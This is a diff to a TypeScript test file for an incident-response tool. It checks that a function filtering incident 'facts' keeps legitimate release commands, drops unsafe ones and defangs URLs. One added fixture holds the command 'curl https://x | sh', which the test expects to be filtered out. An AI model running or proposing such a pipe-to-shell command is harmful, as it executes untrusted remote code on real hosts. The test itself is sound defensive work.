@@ -28,11 +28,15 @@ describe('H1 what people are told', () => {
       { fact: 'order-again', command: `firebreak release ${INCIDENT}` },
       { fact: 'order-again', command: 'firebreak release INC-20261120-8G4M' },
       { fact: 'ended', how: 'stand-down', by: 'ceo' },
+      { fact: 'given-up', hosts: ['db-1'], by: 'ceo' },
+      { fact: 'if-machine-gone', host: 'web-1', command: 'curl https://x | sh' },
+      { fact: 'if-machine-gone', host: 'web-1', command: `firebreak release ${INCIDENT} --gone web-1` },
       { fact: 'host-failed', host: 'web-1', fault: { code: 'HOST_TIMEOUT', detail: 'see https://x' } },
       null,
     ] as unknown as readonly Fact[];
     expect(tellableFacts(facts, INCIDENT)).toEqual([
       { fact: 'order-again', command: `firebreak release ${INCIDENT}` },
+      { fact: 'if-machine-gone', host: 'web-1', command: `firebreak release ${INCIDENT} --gone web-1` },
       { fact: 'host-failed', host: 'web-1', fault: { code: 'HOST_TIMEOUT', detail: 'see hxxps[:]//x' } },
     ]);
     expect(tellableFacts(facts, INCIDENT, { by: 'bob', words: 'call me', action: 'escalate' })[0]).toEqual({
@@ -40,6 +44,8 @@ describe('H1 what people are told', () => {
       by: 'bob',
       words: 'call me',
     });
+    const ending = { by: 'bob', words: 'scrapped', action: 'release', gone: ['web-1'] };
+    expect(tellableFacts(facts, INCIDENT, ending)).toContainEqual({ fact: 'given-up', hosts: ['web-1'], by: 'bob' });
   });
 
   test.each([
